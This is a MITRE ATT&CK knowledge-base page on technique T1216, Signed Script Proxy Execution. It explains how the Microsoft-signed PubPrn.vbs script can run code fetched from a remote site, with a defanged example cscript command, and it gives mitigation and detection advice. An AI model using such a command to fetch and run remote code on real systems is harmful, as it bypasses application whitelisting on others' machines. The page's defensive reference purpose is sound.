Signed Script Proxy Execution

From enterprise
Jump to: navigation, search
Signed Script Proxy Execution
ID T1216
Tactic Defense Evasion, Execution
Platform Windows
Permissions Required User
Data Sources Process monitoring, Process command-line parameters
Supports Remote No
Defense Bypassed Application whitelisting, Digital Certificate Validation
Contributors Praetorian

Scripts signed with trusted certificates can be used to proxy execution of malicious files. This behavior may bypass signature validation restrictions and application whitelisting solutions that do not account for use of these scripts.

PubPrn.vbs is signed by Microsoft and can be used to proxy execution from a remote site.1 Example command: cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs script:http[:]//

There are several other signed scripts that may be used in a similar manner.2


  • APT32 has used PubPrn.vbs within execution scripts to execute malware, possibly bypassing defenses.3Certain signed scripts that can be used to execute other programs may not be necessary within a given environment. Use application whitelisting configured to block execution of these scripts if they are not required for a given system or network to prevent potential misuse by adversaries.Monitor script processes,such as cscript, and command-lineparameters for scripts like PubPrn.vbs that may be used toproxy execution of malicious files.